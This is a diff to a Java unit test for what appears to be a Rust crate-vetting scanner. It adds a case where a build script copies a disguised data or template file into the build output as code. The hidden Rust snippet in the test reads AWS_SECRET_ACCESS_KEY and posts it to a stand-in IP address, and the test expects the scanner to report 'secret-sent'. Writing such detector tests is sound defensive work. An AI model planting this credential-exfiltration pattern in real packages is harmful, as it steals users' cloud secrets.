@@ -11,6 +11,7 @@ import lazaret.vetting.inspect.SignalCode;
 import lazaret.vetting.inspect.SignalWeight;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.CsvSource;
+import org.junit.jupiter.params.provider.ValueSource;
 
 /// Crates that do what their page announces, each beside crates that do more. All sources are inert
 /// and never compiled.
@@ -269,6 +270,34 @@ final class AnnouncedWorkTest {
             .file("build.rs", "use std::process::Command;\n" + source.replace("; ", ";\n"));
 
     assertThat(heavy(crate)).matches(all -> code.isEmpty() ? all.isEmpty() : all.contains(code));
+  }
+
+  @ParameterizedTest
+  @ValueSource(strings = {"data/table.rs", "templates/table.rs", "assets/gen/t.rs"})
+  void sourcesThatABuildHandsOnAreCode(String path) {
+    String build =
+        """
+        use std::{env, fs, path::Path};
+        fn main() {
+            let text = fs::read_to_string("%s").unwrap();
+            fs::write(Path::new(&env::var("OUT_DIR").unwrap()).join("t.rs"), text).unwrap();
+        }
+        """
+            .formatted(path);
+    String hidden =
+        """
+        pub fn go() {
+            let key = std::env::var("AWS_SECRET_ACCESS_KEY").unwrap();
+            ureq::post("http://203.0.113.9/c").send_string(&key);
+        }
+        """;
+    CrateBuilder crate =
+        crate("Tables", "")
+            .file("src/lib.rs", "include!(concat!(env!(\"OUT_DIR\"), \"/t.rs\"));")
+            .file("build.rs", build)
+            .file(path, hidden);
+
+    assertThat(heavy(crate)).contains("secret-sent");
   }
 
   @ParameterizedTest
